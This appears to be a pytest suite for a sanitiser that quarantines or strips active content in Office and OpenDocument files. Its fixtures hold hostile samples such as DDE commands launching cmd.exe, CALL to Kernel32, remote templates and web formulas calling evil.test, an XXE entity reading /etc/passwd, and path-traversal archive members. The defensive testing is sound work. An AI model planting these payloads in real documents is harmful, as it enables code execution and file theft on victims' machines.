"""Office and OpenDocument files: macros hold the file, what else runs or calls out goes, text and links stay."""

import io
import zipfile

import pytest

from sgd_resources.cleaning.office.archive import read_members
from sgd_resources.cleaning.office.ooxml import clean_office
from sgd_resources.cleaning.office.opendocument import clean_opendocument
from sgd_resources.errors import RejectedEvidence
from sgd_resources.ports.examination import Cleaning, Limits
from tests.hostile import made

LIMITS = Limits()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def word(body: str) -> str:
    relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<w:document xmlns:w="{made.WORD}" xmlns:r="{relationships}"><w:body>{body}</w:body></w:document>'


SPLIT_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    '<w:r><w:instrText>E cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def sheet(formula: str) -> bytes:
    cell = f'<sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData>'
    return made.xlsx(f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{cell}</worksheet>')


def office(data: bytes) -> Cleaning:
    return clean_office(data, "", LIMITS)


def is_held(found: Cleaning) -> bool:
    return found.details.get("refusal") == {"verdict": "quarantine", "reason": "active_content"}


def parts_of(found: Cleaning) -> dict[str, bytes]:
    assert "refusal" not in found.details
    return read_members(found.data, LIMITS)


@pytest.mark.parametrize(
    "data",
    [
        made.docx({"word/vbaProject.bin": OLE}, relations=made.relation("vbaProject", "vbaProject.bin")),
        made.docx(relations=made.relation("attachedTemplate", "https://evil.test/t.dotm", is_external=True)),
        made.docx(relations=made.relation("attachedTemplate", "file://evil/t.dotm", is_external=True)),
        made.docx(document=word('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k&quot; "/></w:p>')),
        made.docx(document=word(SPLIT_FIELD)),
        sheet("cmd|' /c calc'!A0"),
        sheet("CALL(&quot;Kernel32&quot;,1)"),
        made.xlsx("<worksheet/>", {"xl/macrosheets/sheet1.xml": "<x/>"}),
    ],
)  # fmt: skip
def test_macros_commands_and_remote_templates_hold_the_file(data: bytes) -> None:
    assert is_held(office(data))


SHAPE = '<w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId5"/></v:shape>{}</w:object>'
OLE_OBJECT = SHAPE.format('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" r:id="rId9"/>')
REMOTE_FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
    '<w:r><w:instrText>PICTURE "http://evil.test/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
WORDS = "<w:p><w:r><w:t>Primary colour #0055AA</w:t></w:r></w:p>"


@pytest.mark.parametrize(
    ("extra", "body", "relation", "kind", "gone"),
    [
        ({"word/x.bin": OLE}, OLE_OBJECT, ("oleObject", "x.bin", False), "embedded_object", b"OLEObject"),
        ({"word/x.docx": made.docx()}, OLE_OBJECT, ("package", "x.docx", False), "embedded_object", b"x.docx"),
        ({"word/picture.png": OLE}, "", ("image", "picture.png", False), "embedded_object", b"picture.png"),
        ({"word/a.html": "<script>1</script>"}, '<w:altChunk r:id="rId9"/>', ("aFChunk", "a.html", False),
         "foreign part", b"altChunk"),
        ({"word/activeX/a.xml": "<a/>"}, '<w:control r:id="rId9"/>', ("control", "activeX/a.xml", False), "activex",
         b"w:control"),
        ({"word/a.exe": "MZ"}, "", ("x", "a.exe", False), "program", b"a.exe"),
        ({}, "", ("frame", "https://evil.test/", True), "external_link", b"evil"),
        ({}, "", ("subDocument", "https://evil.test/", True), "external_link", b"evil"),
        ({}, "", ("attachedTemplate", "file:///C:%5CUsers%5Cevil%5CBrand.dotx", True), "template link", b"evil"),
        ({}, '<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.test/x.png"/></w:p>', None, "linked field",
         b"evil"),
        ({}, f"<w:p>{REMOTE_FIELD}</w:p>", None, "linked field", b"evil"),
        ({}, '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;file://evil/x&quot; "/></w:p>', None, "link", b"evil"),
        ({"word/webextensions/x.xml": "<a/>"}, "", ("webextension", "webextensions/x.xml", False), "web extension",
         b"x.xml"),
    ],
)  # fmt: skip
def test_what_can_go_without_harm_to_the_rest_goes_and_is_told(
    extra: dict[str, bytes | str], body: str, relation: tuple[str, str, bool] | None, kind: str, gone: bytes
) -> None:
    relations = made.relation(relation[0], relation[1], is_external=relation[2]) if relation else ""
    found = office(made.docx(extra, word(WORDS + body), relations))
    parts = parts_of(found)
    assert (found.how, found.details["removed"][kind] >= 1) == ("sanitised", True)
    assert b"Primary colour #0055AA" in parts["word/document.xml"]
    assert not any(gone in name.encode() + content for name, content in parts.items())
    assert office(found.data).data == found.data


def test_the_picture_and_the_words_that_stand_for_what_went_stay() -> None:
    parts = parts_of(office(made.docx({"word/x.bin": OLE}, word(OLE_OBJECT), made.relation("oleObject", "x.bin"))))
    assert b"imagedata" in parts["word/document.xml"]
    assert b">shown<" in parts_of(office(made.docx(document=word(REMOTE_FIELD))))["word/document.xml"]


def test_a_slides_object_leaves_its_picture() -> None:
    namespaces = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="x"'
    slide = (
        f"<p:sld {namespaces}><p:spTree><p:graphicFrame><p:oleObj><p:embed/><p:pic><p:t/></p:pic></p:oleObj>"
        "</p:graphicFrame></p:spTree></p:sld>"
    )
    part = parts_of(office(made.docx(document=slide)))["word/document.xml"]
    assert b"<p:spTree><p:pic><p:t/></p:pic></p:spTree>" in part


@pytest.mark.parametrize(
    ("formula", "kind"),
    [
        ("WEBSERVICE(&quot;http://evil.test&quot;)", "web formula"),
        ("_xlfn.IMAGE(&quot;http://evil.test/x.png&quot;)", "web formula"),
        ("HYPERLINK(&quot;file://evil/x&quot;,1)", "link"),
    ],
)
def test_a_formula_that_calls_out_goes(formula: str, kind: str) -> None:
    found = office(sheet(formula))
    assert found.details["removed"] == {kind: 1}
    assert b"evil" not in parts_of(found)["xl/worksheets/sheet1.xml"]


VML = (
    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:x="urn:schemas-microsoft-com:office:excel">{}</xml>'
)


@pytest.mark.parametrize(
    "shape",
    [
        '<v:shape><v:imagedata src="http://evil.test/x.png"/></v:shape>',
        '<v:shape><v:imagedata o:href="http://evil.test/x.png"/></v:shape>',
        '<v:shape><v:imagedata o:althref="file://evil/x"/></v:shape>',
        '<v:shape><v:fill src="//evil/x.png"/></v:shape>',
        '<v:shape><v:stroke src="evil.png"/></v:shape>',
        '<v:shape href="javascript:evil()"/>',
        '<v:shape href="file://evil/x"/>',
        '<v:shape onclick="evil()"/>',
        '<v:shape style="behavior:url(evil)"/>',
        '<v:shape o:gfxdata="evil"/>',
        "<v:shape><x:ClientData><x:FmlaMacro>evil</x:FmlaMacro></x:ClientData></v:shape>",
    ],
)  # fmt: skip
def test_old_drawings_load_run_and_hide_nothing(shape: str) -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{made.relation('vmlDrawing', '../drawings/d.vml')}</Relationships>"
    )
    extra: dict[str, bytes | str] = {
        "xl/worksheets/_rels/sheet1.xml.rels": rels,
        "xl/drawings/d.vml": VML.format(shape),
    }
    in_part = office(made.xlsx("<worksheet/>", extra))
    in_text = office(made.docx(document=word(f"<w:p><w:r><w:pict>{VML.format(shape)}</w:pict></w:r></w:p>")))
    for found, name in ((in_part, "xl/drawings/d.vml"), (in_text, "word/document.xml")):
        assert found.details["removed"] == {"VML address": 1}
        assert b"evil" not in parts_of(found)[name]


def test_an_old_drawings_link_to_a_page_and_its_picture_stay() -> None:
    shape = VML.format(
        '<v:shape href="https://a.test/"><v:fill on="t"/><v:imagedata o:relid="rId1" r:id="rId1"/></v:shape>'
    )
    found = office(made.docx(document=word(f"<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>")))
    assert (found.how, found.details) == ("", {"parts": 3})


def test_a_broken_part_with_a_command_is_held_too() -> None:
    broken = word('<w:p><w:fldSimple w:instr=" DDEAUTO cmd.exe "/k echo" "/></w:p>')
    assert is_held(office(made.docx(document=broken)))


@pytest.mark.parametrize(
    "data",
    [
        made.docx(relations=made.relation("hyperlink", "https://example.org/", is_external=True)),
        made.docx(document=word('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:t>DDE is a protocol</w:t></w:r></w:p>')),
        sheet("SUM(A1:A3)"),
    ],
)
def test_ordinary_links_fields_and_formulas_pass_unchanged(data: bytes) -> None:
    found = office(data)
    assert (found.how, found.data == data) == ("", True)


def test_makers_marks_go_and_text_stays() -> None:
    kept = "<w:p><w:ins w:author='c4n4ry'><w:r><w:t>Kept</w:t></w:r></w:ins></w:p>"
    gone = (
        "<w:p><w:del w:author='c4n4ry'><w:r><w:delText>c4n4ry</w:delText></w:r></w:del>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t>c4n4ry</w:t></w:r></w:p>"
    )
    extra: dict[str, bytes | str] = {"docProps/core.xml": "<a>c4n4ry</a>", "word/comments.xml": "<a>c4n4ry</a>"}
    found = office(made.docx(extra, word(kept + gone), made.relation("comments", "comments.xml")))
    with zipfile.ZipFile(io.BytesIO(found.data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert found.how == "stripped"
    assert b"Kept" in parts["word/document.xml"]
    assert not any(b"c4n4ry" in part for part in parts.values())
    assert set(parts) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels"}


def test_cleaning_twice_is_cleaning_once() -> None:
    once = office(made.docx({"docProps/core.xml": "<a/>"})).data
    assert office(once).data == once


def test_a_link_to_a_script_or_a_share_leads_nowhere() -> None:
    for target in ("javascript:alert(1)", "file:///etc/passwd", "\\\\evil\\share"):
        found = office(made.docx(relations=made.relation("hyperlink", target, is_external=True)))
        assert target.encode() not in read_members(found.data, LIMITS)["word/_rels/document.xml.rels"]


def test_a_linked_picture_is_cut_off() -> None:
    blip = '<w:p><a:blip xmlns:a="x" r:link="rId9"/></w:p>'
    found = office(
        made.docx(document=word(blip), relations=made.relation("image", "http://evil.test/", is_external=True))
    )
    parts = read_members(found.data, LIMITS)
    assert b"evil.test" not in b"".join(parts.values())
    assert b"r:link" not in parts["word/document.xml"]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (made.docx(document='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "entities"),
        (made.docx({"../../etc/x": "x"}), "archive_path"),
        (made.docx({"/abs": "x"}), "archive_path"),
        (made.docx(document="<a>"), "malformed"),
        (made.docx({"WORD/document.xml": "<a/>"}), "malformed"),
        (b"<html>" + made.docx(), "polyglot"),
        (made.docx() + b"<script>1</script>", "polyglot"),
        (made.docx()[:-40], "malformed"),
    ],
)
def test_bad_containers_are_refused_with_their_reason(data: bytes, reason: str) -> None:
    with pytest.raises(RejectedEvidence) as caught:
        office(data)
    assert caught.value.reason == reason


def test_a_link_in_the_archive_is_refused() -> None:
    out = io.BytesIO(made.docx())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/link")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    with pytest.raises(RejectedEvidence, match="archive_path"):
        office(out.getvalue())


def test_a_charts_workbook_is_judged_like_a_file_of_its_own() -> None:
    relations = made.relation("package", "embeddings/book.xlsx")
    harmless = office(made.docx({"word/embeddings/book.xlsx": made.xlsx("<worksheet/>")}, relations=relations))
    assert "refusal" not in harmless.details
    held = office(made.docx({"word/embeddings/book.xlsx": sheet("CALL(1)")}, relations=relations))
    assert is_held(held)


@pytest.mark.parametrize(
    "data",
    [
        made.odt({"Basic/Standard/Module1.xml": "<a/>"}),
        made.odt(content="<text:p><text:execute-macro/></text:p>"),
        made.odt(content='<text:p><office:dde-source office:dde-application="cmd"/></text:p>'),
    ],
)
def test_an_open_document_that_runs_is_held(data: bytes) -> None:
    assert is_held(clean_opendocument(data, "", LIMITS))


DRAW = "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"


@pytest.mark.parametrize(
    ("extra", "content", "kind"),
    [
        ({}, '<script:event-listener xlink:href="vnd.sun.star.script:evil"/>', "event listener"),
        ({"Object 1": OLE + b"evil"}, "", "embedded_object"),
        ({"Object 1": OLE}, f'<d:object-ole xmlns:d="{DRAW}" xlink:href="./Object evil"/>', "embedded_object"),
        ({}, f'<d:applet xmlns:d="{DRAW}" xlink:href="evil"/>', "applet"),
        ({}, f'<d:floating-frame xmlns:d="{DRAW}" xlink:href="http://evil"/>', "remote frame"),
        ({}, '<text:section-source xlink:href="http://evil"/>', "remote section"),
    ],
)  # fmt: skip
def test_an_open_document_loses_what_can_go_without_harm(
    extra: dict[str, bytes | str], content: str, kind: str
) -> None:
    found = clean_opendocument(made.odt(extra, f"<text:p>Hello{content} you</text:p>"), "", LIMITS)
    parts = parts_of(found)
    assert (found.how, found.details["removed"][kind] >= 1) == ("sanitised", True)
    assert b"Hello you" in parts["content.xml"]
    assert not any(b"evil" in part or part.startswith(OLE[:4]) for part in parts.values())


def test_an_open_document_loses_its_makers_marks() -> None:
    found = clean_opendocument(made.odt({"meta.xml": "<a>c4n4ry</a>", "Thumbnails/t.png": b"c4n4ry"}), "", LIMITS)
    parts = read_members(found.data, LIMITS)
    assert list(parts) == ["mimetype", "content.xml"]
    assert b"Hello" in parts["content.xml"]
    assert clean_opendocument(found.data, "", LIMITS).data == found.data


def test_an_encrypted_open_document_is_refused() -> None:
    manifest = (
        '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<m:file-entry m:full-path="content.xml">'
        "<m:encryption-data/></m:file-entry></m:manifest>"
    )
    with pytest.raises(RejectedEvidence, match="encrypted"):
        clean_opendocument(made.odt({"META-INF/manifest.xml": manifest}), "", LIMITS)
